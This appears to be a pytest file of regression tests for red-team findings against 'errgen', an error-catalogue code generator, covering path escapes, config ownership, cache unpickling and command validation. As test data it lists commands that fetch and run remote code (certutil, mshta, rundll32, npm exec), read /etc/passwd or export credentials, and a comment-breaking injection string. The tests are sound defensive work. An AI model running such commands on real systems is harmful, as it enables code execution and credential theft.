"""Findings of the third red-team pass (issue 22), each reproduced on the old main: every test
here failed before its fix."""

from __future__ import annotations

import json
import os
from pathlib import Path

import errgen
import pytest

from tests.conftest import run_errgen, run_process

BASE = """errgen: 1
tool: {name: tool}
retired: [OLD_CODE]
errors:
  NEW_CODE:
    message: m
    retryable: false
    exit: FAILURE
"""


def _rules(text: str) -> set[str]:
    return {d.rule for d in errgen.check(text.encode()).diagnostics}


def test_a_retired_code_cannot_come_back_as_an_alias(tmp_path: Path) -> None:
    # finding 4: every parser and recover would read the old terminal code as the new one
    aliased = BASE + "    aliases: [OLD_CODE]\n"
    assert "retired-code-reused" in _rules(aliased)
    # and errgen diff calls the change breaking, from a catalogue where the code was removed
    old = tmp_path / "old.yaml"
    new = tmp_path / "new.yaml"
    old.write_text(BASE.replace("retired: [OLD_CODE]\n", "").replace(
        "errors:\n", "errors:\n  OLD_CODE: {message: o, retryable: false, exit: FAILURE}\n"))
    new.write_text(BASE.replace("retired: [OLD_CODE]\n", "") + "    aliases: [OLD_CODE]\n")
    result = run_errgen("diff", str(old), str(new), "--json")
    changes = result.envelope()["data"]["changes"]
    reused = [c for c in changes if c["kind"] == "reused" and c["code"] == "OLD_CODE"]
    assert reused and reused[0]["breaking"], json.dumps(changes)
    assert result.code != 0


def test_includes_are_bounded_in_number_and_bytes_as_a_whole(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # finding 5: one file hard-linked a hundred times was read a hundred times (1.5 GB, 13 s)
    from errgen.catalogue import include

    shared = tmp_path / "shared.yaml"
    shared.write_text("errgen: 1\nerrors: {}\n" + "# padding\n" * 2000)
    links = []
    for number in range(300):
        link = tmp_path / f"link{number}.yaml"
        os.link(shared, link)
        links.append(link.name)
    root = tmp_path / "errors.yaml"
    root.write_text(BASE + "include: [" + ", ".join(links) + "]\n")
    report = errgen.check(root)
    too_large = [d for d in report.diagnostics if d.rule == "include-too-large"]
    read = include.MAX_INCLUDED_FILES - 1  # the root catalogue is one of the files
    assert len(report.included) == read and len(too_large) == 300 - read
    # the byte bound holds whatever the count: a lower one is reached first
    monkeypatch.setattr(include, "MAX_TOTAL_BYTES", 10 * shared.stat().st_size)
    report = errgen.check(root)
    assert len(report.included) == 10


@pytest.mark.slow  # a timing ratio
def test_retired_codes_and_tags_are_merged_in_linear_time() -> None:
    # finding 6: 80,000 retired codes (629 KB) took 25 s: each was looked for in a list
    import time

    def seconds(count: int) -> float:
        codes = ", ".join(f"OLD_{i}" for i in range(count))
        text = BASE.replace("retired: [OLD_CODE]", f"retired: [{codes}]")
        started = time.perf_counter()
        assert not errgen.check(text.encode()).failed()
        return time.perf_counter() - started

    small, large = min(seconds(5_000) for _ in range(3)), min(seconds(40_000) for _ in range(3))
    assert large < 8 * small * 2.5, (small, large)  # linear (x8), with room for a noisy machine


@pytest.mark.parametrize(("tool", "code"), [("tool", "RANGE"), ("range", "X")])
def test_no_class_shadows_a_global_the_typescript_module_uses(tool: str, code: str) -> None:
    # finding 7: a code RANGE (or a tool named range) made class RangeError, which errors.ts
    # itself throws: the module no longer compiled
    text = f"errgen: 1\ntool: {{name: {tool}}}\nerrors:\n  {code}: {{message: m, retryable: false, exit: FAILURE}}\n"
    assert "generated-name-collision" in _rules(text)


def _config_project(tmp_path: Path, config: str) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    (project / "errors.yaml").write_text(BASE)
    (project / "errgen.toml").write_text(config)
    return project


def test_a_configuration_another_user_may_write_is_refused(tmp_path: Path) -> None:
    # finding 3: a planted errgen.toml in a shared folder decided where files were written
    project = _config_project(tmp_path, 'targets = ["python"]\n')
    (project / "errgen.toml").chmod(0o666)
    result = run_errgen("build", "--json", cwd=project)
    error = result.envelope()["error"]
    assert error["code"] == "CONFIG_INVALID" and "other users" in error["message"]
    assert not (project / "errors.py").exists()
    (project / "errgen.toml").chmod(0o644)
    if os.getuid() == 0:  # as root (as CI runs), a file of another user's can be made
        os.chown(project / "errgen.toml", 12345, 12345)
        error = run_errgen("build", "--json", cwd=project).envelope()["error"]
        assert error["code"] == "CONFIG_INVALID" and "owned by another user" in error["message"]
        os.chown(project / "errgen.toml", 0, 0)
    assert run_errgen("build", cwd=project).code == 0


def test_a_configuration_names_no_place_outside_its_folder(tmp_path: Path) -> None:
    for config in (
        'out = "../elsewhere"\n',
        'templates = "/etc"\n',
        '[outputs]\npython = "../../sitecustomize.py"\n',
    ):
        project = _config_project(tmp_path, config)
        result = run_errgen("build", "--json", cwd=project)
        error = result.envelope()["error"]
        assert error["code"] == "CONFIG_INVALID", config
        assert "outside the configuration's folder" in error["message"], config
        assert not (tmp_path / "elsewhere").exists() and not (tmp_path / "sitecustomize.py").exists()
        import shutil

        shutil.rmtree(project)
    # the command line may name any place
    project = _config_project(tmp_path, 'targets = ["python"]\n')
    assert run_errgen("build", "--out", str(tmp_path / "elsewhere"), cwd=project).code == 0
    assert (tmp_path / "elsewhere" / "errors.py").is_file()


def test_discovery_stops_at_a_repository_and_skips_a_broken_parent(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text("this is = not [ toml\n")  # someone else's, above
    project = tmp_path / "project"
    project.mkdir()
    (project / "errors.yaml").write_text(BASE)
    assert run_errgen("validate", cwd=project).code == 0  # the broken parent is passed over
    (tmp_path / "pyproject.toml").write_text('[tool.errgen]\nout = "planted"\n')
    (project / ".git").mkdir()  # a repository's root: nothing above it is read
    assert run_errgen("build", "--json", cwd=project).code == 0
    assert not (tmp_path / "planted").exists()


def test_inputs_that_raised_internal_error_are_errgens_own_errors(tmp_path: Path) -> None:
    # finding 11: each of these was INTERNAL_ERROR
    big = "9" * 4301  # past Python's int-from-str limit
    text = BASE.replace("exit: FAILURE", f"exit: FAILURE\n    http_status: {big}")
    assert "yaml-number" in _rules(text)
    nul = BASE + 'include: ["a\\0b.yaml"]\n'
    (tmp_path / "nul.yaml").write_text(nul)
    result = run_errgen("validate", "--json", str(tmp_path / "nul.yaml"))
    rules = {d["rule"] for d in result.envelope()["data"]["diagnostics"]}
    assert result.envelope()["error"]["code"] == "CATALOG_INVALID" and "include-path" in rules
    (tmp_path / "errgen.toml").write_text('catalog = "x\\u0000y.yaml"\n')
    result = run_errgen("validate", "--json", cwd=tmp_path)
    assert result.envelope()["error"]["code"] == "CONFIG_INVALID"
    (tmp_path / "errgen.toml").unlink()
    # includes a thousand deep: the file bound stops the walk long before Python's stack
    deep = tmp_path / "deep"
    deep.mkdir()
    for number in range(1000):
        (deep / f"c{number}.yaml").write_text(f"errgen: 1\ninclude: [c{number + 1}.yaml]\nerrors: {{}}\n")
    (deep / "c1000.yaml").write_text("errgen: 1\nerrors: {}\n")
    (deep / "root.yaml").write_text(BASE + "include: [c0.yaml]\n")
    result = run_errgen("validate", "--json", str(deep / "root.yaml"))
    assert result.envelope()["error"]["code"] == "CATALOG_INVALID"
    # errgen diff with an absolute path in a revision
    result = run_errgen("diff", "--json", "HEAD:/etc/passwd", str(deep / "root.yaml"), cwd=tmp_path)
    assert result.envelope()["error"]["code"] == "CATALOG_NOT_FOUND"


def test_recover_reads_deeply_nested_json_as_no_envelope() -> None:
    # finding 11: a tool printing deeply nested JSON made recover fail, and a transient failure
    # was then not retried
    from errgen.child import parse_envelope

    assert parse_envelope("[" * 100_000 + "]" * 100_000) is None
    nested = '{"ok": false, "error": null, "data": ' + "[" * 100_000 + "]" * 100_000 + "}"
    assert parse_envelope(nested) is None


def test_errgen_diff_reads_a_git_blob_only_up_to_the_size_bound(tmp_path: Path) -> None:
    # finding 12: a 400 MB blob was read whole (1.2 GB of memory)
    import subprocess

    from errgen.catalogue.files import MAX_FILE_BYTES
    from errgen.diff.versions import GitReader

    subprocess.run(["git", "init", "-q"], cwd=tmp_path, check=True)
    big = tmp_path / "big.yaml"
    with big.open("wb") as handle:
        handle.write(b"#" * (MAX_FILE_BYTES * 2))
    subprocess.run(["git", "add", "big.yaml"], cwd=tmp_path, check=True)
    subprocess.run(
        ["git", "-c", "user.email=t@t", "-c", "user.name=t", "commit", "-qm", "big"],
        cwd=tmp_path,
        check=True,
    )
    data = GitReader("HEAD", tmp_path)(Path("big.yaml"))
    assert len(data) == MAX_FILE_BYTES + 1


def test_a_build_that_fails_while_publishing_leaves_every_old_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # finding 13: a failure in the middle of publishing left some outputs new and some old
    from errgen.building import write

    catalogue = tmp_path / "errors.yaml"
    catalogue.write_text(BASE)
    out = tmp_path / "out"
    assert run_errgen("build", str(catalogue), "--out", str(out)).code == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    catalogue.write_text(BASE.replace("message: m", "message: changed"))
    real_replace = write.os.replace
    calls: list[Path] = []

    def failing_third(source: object, target: object) -> None:
        calls.append(Path(str(target)))
        if len(calls) == 3:
            raise PermissionError(13, "Permission denied", str(source), None, str(target))
        real_replace(source, target)  # type: ignore[arg-type]

    monkeypatch.setattr(write.os, "replace", failing_third)
    with pytest.raises(errgen.ErrgenError) as caught:
        errgen.build(catalogue, out=out)
    monkeypatch.undo()
    assert caught.value.to_dict()["code"] == "OUTPUT_UNWRITABLE"
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # no temp left, none new


def _script(folder: Path, name: str, body: str) -> None:
    import stat
    import sys

    (folder / "bin").mkdir(exist_ok=True)
    path = folder / "bin" / name
    path.write_text(f"#!{sys.executable}\n{body}")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def test_recover_reports_a_killed_tool_as_a_shell_does(tmp_path: Path) -> None:
    # finding 15: a tool killed by SIGKILL or SIGTERM gave 247 or 241, not 137 or 143
    _script(tmp_path, "dies", "import os, signal, sys\nos.kill(os.getpid(), int(sys.argv[1]))\n")
    env = dict(os.environ, PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}")
    for signal, status in ((9, 137), (15, 143)):
        result = run_process("recover", "--", "dies", str(signal), cwd=tmp_path, env=env)
        assert result.code == status, (signal, result.err)


def test_recover_with_a_configured_catalogue_that_is_missing_stops(tmp_path: Path) -> None:
    # finding 15: it ran without the catalogue, trusting the envelope's constants
    (tmp_path / "errgen.toml").write_text('catalog = "gone.yaml"\n')
    _script(tmp_path, "tool", "print('{}')\n")
    env = dict(os.environ, PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}")
    result = run_process("recover", "--json", "--", "tool", cwd=tmp_path, env=env)
    assert result.envelope()["error"]["code"] == "CATALOG_NOT_FOUND"


@pytest.mark.parametrize("folder", ["node", "sh", "rm", "internal"])
def test_init_writes_only_starters_that_validate(tmp_path: Path, folder: str) -> None:
    # finding 17: a folder named like a program validate refuses gave a starter it refused
    project = tmp_path / folder
    project.mkdir()
    assert run_errgen("init", cwd=project).code == 0
    assert run_errgen("validate", "--strict", cwd=project).code == 0


def test_init_refuses_a_name_validate_would_refuse(tmp_path: Path) -> None:
    result = run_errgen("init", "--name", "sudo", "--json", cwd=tmp_path)
    assert result.envelope()["error"]["code"] == "USAGE_INVALID"
    assert not (tmp_path / "errors.yaml").exists()


def test_the_template_cache_is_read_only_from_a_folder_the_user_owns_alone(tmp_path: Path) -> None:
    # finding 10: errgen's template bytecode in ~/.cache/errgen was unpickled with no owner or
    # mode check (build --check included)
    import jinja2
    from errgen.cli.bytecode import TemplateCache

    folder = tmp_path / "templates"
    cache = TemplateCache(folder)
    environment = jinja2.Environment()
    bucket = jinja2.bccache.Bucket(environment, "key", "checksum")
    bucket.code = compile("x = 1", "<t>", "exec")
    cache.dump_bytecode(bucket)
    entry = folder / "key"
    assert entry.is_file() and not (folder.stat().st_mode & 0o022)

    def loaded() -> bool:
        fresh = jinja2.bccache.Bucket(environment, "key", "checksum")
        cache.load_bytecode(fresh)
        return fresh.code is not None

    assert loaded()
    folder.chmod(0o777)  # another user could have written the entry
    assert not loaded()
    folder.chmod(0o700)
    entry.chmod(0o666)
    assert not loaded()
    entry.chmod(0o600)
    if os.getuid() == 0:
        os.chown(entry, 12345, 12345)
        assert not loaded()
        os.chown(entry, 0, 0)
    assert loaded()


def test_codes_named_like_builtins_the_runtime_uses_still_work() -> None:
    # finding 7 (Python): codes OVERFLOW and RECURSION made classes OverflowError and
    # RecursionError, which the runtime caught by name: from_envelope crashed
    text = """errgen: 1
tool: {name: tool}
errors:
  OVERFLOW:
    message: m
    details: {count: {type: int}}
    retryable: false
    exit: FAILURE
  RECURSION: {message: r, retryable: false, exit: FAILURE}
"""
    assert not errgen.check(text.encode()).failed()
    source = errgen.render(errgen.load(text.encode()), ["python"])["errors.py"].decode()
    namespace: dict[str, object] = {"__name__": "builtins_named"}
    exec(compile(source, "errors.py", "exec"), namespace)
    from_envelope = namespace["from_envelope"]
    envelope = {"ok": False, "data": None, "error": {"code": "OVERFLOW", "message": "m",
                "retryable": False, "details": {"count": 10**400}}}
    error = from_envelope(envelope)  # type: ignore[operator]
    assert type(error).__name__ == "OverflowError" and error.to_dict()["code"] == "OVERFLOW"


@pytest.mark.slow  # the Go toolchain
def test_go_run_reports_panic_nil_as_an_internal_error(tmp_path: Path) -> None:
    # finding 8: under a go 1.19 module (the example's), panic(nil) printed nothing and
    # exited 0: a crash read as success
    from tests.polyglot import GOLDEN, go_module, go_package_of, need_go, run

    go = need_go()
    package = go_package_of("guide")
    go_module(tmp_path, {package: (GOLDEN / "guide" / "errors.go").read_bytes()})
    (tmp_path / "cmd").mkdir()
    (tmp_path / "cmd" / "main.go").write_text(
        "package main\n\n"
        f'import errs "errgen.test/m/{package}"\n\n'
        "func main() {\n"
        "\terrs.Run(func() (any, error) { panic(nil) })\n"
        "}\n"
    )
    built = run([go, "build", "-o", "crashes", "./cmd"], tmp_path)
    assert built.returncode == 0, built.stderr
    done = run([str(tmp_path / "crashes")], tmp_path)
    assert done.returncode == 9, (done.returncode, done.stdout, done.stderr)
    assert json.loads(done.stdout.splitlines()[-1])["error"]["code"] == "INTERNAL_ERROR"


def test_literals_stay_literals_inside_comments_too() -> None:
    # finding 2: text reaching a Go or TypeScript /* */ comment through a literal filter could
    # end the comment (`*/ console.log(...); /*`); a literal is now inert there as well
    from errgen.targets.go import go_string
    from errgen.targets.typescript import ts_literal

    hostile = "*/ console.log(1); /* and */ func init() { panic(1) } //"
    for literal in (go_string(hostile), ts_literal(hostile)):
        assert "*/" not in literal and "\n" not in literal
    assert json.loads(ts_literal(hostile).replace("\\/", "/")) == hostile


def test_a_template_may_use_only_its_own_targets_filters(tmp_path: Path) -> None:
    # finding 2: a Markdown filter in a Python docstring (or a TypeScript/Go comment) made
    # catalogue text into code; another target's filter is refused when the template loads
    (tmp_path / "errors.yaml").write_text(BASE)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "errors.py.jinja").write_text('"""{{ catalogue.tool | md_text }}"""\n')
    result = run_errgen(
        "build", "--json", "--templates", str(mine), "--out", str(tmp_path / "out"), "-t", "python",
        cwd=tmp_path,
    )
    assert result.envelope()["error"]["code"] == "TEMPLATE_INVALID"
    assert "md_text" in result.envelope()["error"]["message"]


RUN_OTHER_PROGRAMS = [
    "npm exec evil-package",
    "pnpm dlx evil-package",
    "uv run --with evil-package tool",
    "go run example.com/evil@latest",
    "pip install evil-package",
    "docker run evil-image",
    "podman run evil-image",
    "git submodule foreach make",
    "git bisect run make",
    "git rebase -x make main",
    "rsync -e ssh src dst",
    "tar -I zstd -xf a.tar",
    "git config core.fsmonitor evil",
    "git config core.sshCommand evil",
    "git config core.hooksPath hooks",
    "git -C /tmp/evil status",
    "kubectl config set-credentials me --exec-command=evil",
    "aws configure set credential_process evil",
    "kubectl exec web -- sh",
    "mshta http://x",
    "rundll32 evil.dll,entry",
    "certutil -urlcache -f http://x evil.exe",
    # a new user's trial, after the list passed
    "kubectl debug web -it --image=busybox",
    "kubectl cp web:/etc/passwd ./passwd",
    "kubectl krew install x",
    "kubectl get pods --kubeconfig /tmp/evil",
    "npm start",
    "npm rebuild",
    "npm update",
    "git --git-dir=/tmp/x status",
    "git --work-tree=/tmp/x status",
    "docker -H ssh://evil ps",
    "docker --config /tmp/x ps",
    "git difftool",
    "git log --ext-diff",
    "gh codespace ssh",
    "gcloud compute ssh x",
]


@pytest.mark.parametrize(
    "line", ["git tag --list", "aws configure list", "git blame README.md", "git grep -n TODO"]
)
def test_read_only_commands_the_trial_saw_flagged_pass(line: str) -> None:
    from errgen.validation.commands import judge

    assert judge(line, frozenset(line.split()[:1]), "read-only") == []


@pytest.mark.parametrize(
    "line",
    [
        "aws configure list-profiles",
        "aws configure get region",
        "aws configure get region --profile dev",
        "aws configure export-credentials --format env",
    ],
)
def test_aws_configure_read_only_subcommands_are_not_prompts(line: str) -> None:
    # the awscli transcription acknowledged command-interactive-undeclared on list-profiles:
    # `aws configure` alone prompts for keys, its read-only subcommands print and ask nothing
    from errgen.validation.commands import judge

    assert judge(line, frozenset(["aws"]), "read-only") == []


def test_aws_configure_alone_still_prompts() -> None:
    from errgen.validation.commands import judge

    found = judge("aws configure", frozenset(["aws"]), "idempotent")
    assert [rule for rule, _, _ in found] == ["command-interactive-undeclared"]


@pytest.mark.parametrize("line", RUN_OTHER_PROGRAMS)
def test_commands_that_start_another_program_are_errors(line: str) -> None:
    # finding 9: each of these validated as an idempotent fix command
    from errgen.validation.commands import judge
    from errgen.validation.registry import RULES

    found = judge(line, frozenset(line.split()[:1]), "idempotent")
    assert any(RULES[rule].severity == "error" for rule, _, _ in found), found


def test_an_outage_labelled_idempotent_is_reported() -> None:
    from errgen.validation.commands import judge

    assert [r for r, _, _ in judge("systemctl reboot", frozenset(["systemctl"]))] == [
        "command-effect-understated"
    ]


def test_a_link_inside_the_folder_does_not_lead_out_of_it(tmp_path: Path) -> None:
    # the trial: out = "linkout", a link to a folder elsewhere, wrote there
    outside = tmp_path / "outside"
    outside.mkdir()
    project = _config_project(tmp_path, 'out = "linkout"\ntargets = ["python"]\n')
    (project / "linkout").symlink_to(outside)
    error = run_errgen("build", "--json", cwd=project).envelope()["error"]
    assert error["code"] == "CONFIG_INVALID" and "outside the configuration's folder" in error["message"]
    assert list(outside.iterdir()) == []


def test_recover_knows_the_tool_given_by_a_path(tmp_path: Path) -> None:
    # the trial: recovering ./tool refused the envelope's 'tool auth refresh' as another program
    _script(
        tmp_path,
        "tool",
        "import json, sys, pathlib\n"
        "if sys.argv[1:] == ['auth', 'refresh']:\n"
        "    pathlib.Path('fixed').write_text('yes'); sys.exit(0)\n"
        "if pathlib.Path('fixed').exists():\n"
        "    print(json.dumps({'ok': True, 'data': 1, 'error': None, 'warnings': [], 'meta': {}}))\n"
        "    sys.exit(0)\n"
        "error = {'code': 'EXPIRED', 'message': 'm', 'retryable': False,\n"
        "         'fix_required': 'refresh', 'fix_command': 'tool auth refresh'}\n"
        "print(json.dumps({'ok': False, 'data': None, 'error': error, 'warnings': [], 'meta': {}}))\n"
        "sys.exit(8)\n",
    )
    env = dict(os.environ, PATH=f"{tmp_path / 'bin'}:{os.environ['PATH']}")
    result = run_process("recover", "--trust-envelope", "--", "./bin/tool", cwd=tmp_path, env=env)
    assert result.code == 0, result.err


@pytest.mark.parametrize(
    "template",
    [
        "X = {{ (catalogue.tool | md_text) | py }}\n",
        "{% set x = catalogue.tool | md_text %}X = 1\n",
        "{% if catalogue.tool | md_text %}X = 1{% endif %}\n",
    ],
)
def test_another_targets_filter_is_named_wherever_it_stands(tmp_path: Path, template: str) -> None:
    (tmp_path / "errors.yaml").write_text(BASE)
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "errors.py.jinja").write_text(template)
    result = run_errgen(
        "build", "--json", "--templates", str(mine), "--out", str(tmp_path / "out"), "-t", "python",
        cwd=tmp_path,
    )
    error = result.envelope()["error"]
    assert error["code"] == "TEMPLATE_INVALID"
    assert "filter 'md_text' is not one of this target's filters" in error["message"]
